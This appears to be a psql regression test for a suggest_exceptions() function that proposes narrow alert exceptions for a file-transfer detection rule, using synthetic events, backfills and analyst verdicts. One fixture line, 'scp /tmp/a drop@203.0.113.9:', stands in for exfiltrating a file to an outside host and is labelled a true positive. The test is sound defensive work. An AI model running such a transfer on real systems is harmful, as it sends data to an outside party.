-- suggest_exceptions(): the narrowest condition for what keeps coming back as harmless.
SET search_path = transfer_detect, transfer_detect_internal, public;
SET client_min_messages = warning;	-- not how far backfill() is
SET timezone = 'UTC';
SET datestyle = 'ISO';
\set rule '''unusual-file-transfer-utility-launched'''
-- a day's transfers, an alert each, which somebody judges
CREATE PROCEDURE pg_temp.day(day timestamptz) LANGUAGE plpgsql AS $$
BEGIN
	INSERT INTO events (timestamp, host_os_type, event_type, event_action, process_name, process_executable, process_parent_executable, process_command_line, agent_id, host_name)
	SELECT day + make_interval(hours => 3, mins => n::integer), 'linux', '{start}', '{exec}', split_part(command, ' ', 1), '/usr/bin/' || split_part(command, ' ', 1), parent, command, host, host
	FROM unnest(
		ARRAY['rsync -a /backup/' || to_char(day, 'YYYY-MM-DD') || '/ nas:/in', 'scp -q report.txt vault:', 'scp "a b.txt" \\x*?' || to_char(day, 'DD') || ' odd:', 'scp /tmp/a drop@203.0.113.9:',
			format('scp notes-%s.txt %s:', to_char(day, 'DD'), 'app-' || to_char(day, 'DD'))],
		ARRAY['/usr/sbin/cron', '/usr/bin/bash', '/usr/bin/bash', '/usr/bin/bash', '/usr/bin/bash'],
		ARRAY['db-1', 'web-' || to_char(day, 'DD'), 'web-1', 'web-2', 'desk-1']) WITH ORDINALITY AS v(command, parent, host, n);
	PERFORM FROM backfill('unusual-file-transfer-utility-launched', day, day + '1 day');
	UPDATE alerts SET status = 'closed', close_reason = CASE WHEN process_command_line LIKE '%drop@%' THEN 'true_positive'
		WHEN process_command_line LIKE 'rsync%' THEN 'false_positive' ELSE 'benign' END WHERE status <> 'closed';
END $$;
CALL pg_temp.day('2026-11-20 00:00Z');
CALL pg_temp.day('2026-11-21 00:00Z');
SELECT * FROM suggest_exceptions(:rule, '2026-11-01', '2026-11-26');
CALL pg_temp.day('2026-11-22 00:00Z');
CALL pg_temp.day('2026-11-23 00:00Z');
-- events that it would hide as well: the rule did not choose this one
INSERT INTO events (timestamp, process_executable, process_parent_executable, process_command_line, host_name)
VALUES ('2026-11-21 12:00Z', '/usr/bin/scp', '/usr/bin/bash', 'scp -q report.txt vault:', 'web-9');
SELECT alerts, other_events, condition FROM suggest_exceptions(:rule, '2026-11-01', '2026-11-26');
-- the texts are statements
SELECT statement FROM suggest_exceptions(:rule, '2026-11-01', '2026-11-26') \gexec
SELECT rule_id, stage, condition, comment FROM exceptions ORDER BY id;
-- what has an exception is not suggested again
SELECT * FROM suggest_exceptions(:rule, '2026-11-01', '2026-11-26');
-- and does not come back, and what was true does
INSERT INTO events (timestamp, host_os_type, event_type, event_action, process_name, process_executable, process_parent_executable, process_command_line, agent_id, host_name)
SELECT timestamp + '1 day', host_os_type, event_type, event_action, process_name, process_executable, process_parent_executable, replace(process_command_line, '2026-11-23', '2026-11-24'), agent_id, host_name
FROM events WHERE timestamp >= '2026-11-23';
SELECT alerts_created, excepted FROM backfill(:rule, '2026-11-24 03:00Z', '2026-11-24 04:00Z');
SELECT process_command_line FROM alerts WHERE status <> 'closed' ORDER BY id;
-- an alert that nobody has judged yet: its family gets no suggestion, a narrower one may
DELETE FROM exceptions;
UPDATE alerts SET status = 'open' WHERE id = (SELECT max(id) FROM alerts WHERE process_command_line LIKE 'rsync%');
SELECT alerts, condition FROM suggest_exceptions(:rule, '2026-11-01', '2026-11-26');
UPDATE alerts SET status = 'closed', close_reason = 'true_positive' WHERE process_command_line = 'scp -q report.txt vault:' AND host_names = '{web-22}';
SELECT alerts, condition FROM suggest_exceptions(:rule, '2026-11-01', '2026-11-26');
-- more seldom
SELECT alerts, condition FROM suggest_exceptions(:rule, '2026-11-01', '2026-11-26', at_least => 1);
-- a rule that returns no command line
INSERT INTO rules (rule_id, name, query) VALUES ('by-parent', 'by parent',
	'FROM x | WHERE process.name IN ("scp", "rsync") | STATS n = COUNT(), hosts = VALUES(host.name) BY process.executable, process.parent.executable');
SELECT sum(alerts_created) FROM backfill('by-parent', '2026-11-20 00:00Z', '2026-11-21 00:00Z');
UPDATE alerts SET status = 'closed', close_reason = 'benign' WHERE rule_id = 'by-parent';
SELECT alerts, other_events, condition FROM suggest_exceptions('by-parent', '2026-11-01', '2026-11-26', at_least => 1);
-- nothing, and errors
SELECT * FROM suggest_exceptions(:rule, '2025-11-01', '2025-11-30');
\set VERBOSITY terse
SELECT * FROM suggest_exceptions('no-such-rule');
SELECT * FROM suggest_exceptions(NULL);
SELECT * FROM suggest_exceptions(:rule, NULL);
\set VERBOSITY default
DELETE FROM rules WHERE rule_id = 'by-parent';
TRUNCATE events, alerts, alert_hits, alert_history, runs, checkpoints, snapshots, exceptions, exception_hits;
